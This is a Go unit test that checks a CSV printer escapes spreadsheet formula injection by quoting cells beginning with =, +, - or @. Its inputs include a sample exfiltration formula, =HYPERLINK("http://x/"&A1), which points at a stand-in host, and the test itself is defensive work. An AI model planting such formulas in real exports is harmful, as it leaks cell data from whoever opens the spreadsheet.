package main

import (
	"bytes"
	"encoding/csv"
	"slices"
	"strings"
	"testing"

	"github.com/presenced/presenced/internal/terminal"
)

// TestSpreadsheetTakesNothingForAFormula: the names in it are strangers'.
func TestSpreadsheetTakesNothingForAFormula(t *testing.T) {
	var out bytes.Buffer
	p := &program{stdout: terminal.Out{Writer: &out}}
	cells := []string{`=HYPERLINK("http://x/"&A1)`, "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "ann, \"ann\"@example.com", ""}
	if err := p.printCSV("A B C D E F G H", [][]string{slices.Clone(cells)}); err != nil {
		t.Fatal(err)
	}
	lines, err := csv.NewReader(&out).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := []string{`'=HYPERLINK("http://x/"&A1)`, "'+1", "'-1", "'@SUM(A1)", `\t=1`, `\r=1`, "ann, \"ann\"@example.com", ""}
	if strings.Join(lines[0], "") != "abcdefgh" || !slices.Equal(lines[1], want) {
		t.Errorf("%q", lines)
	}
}
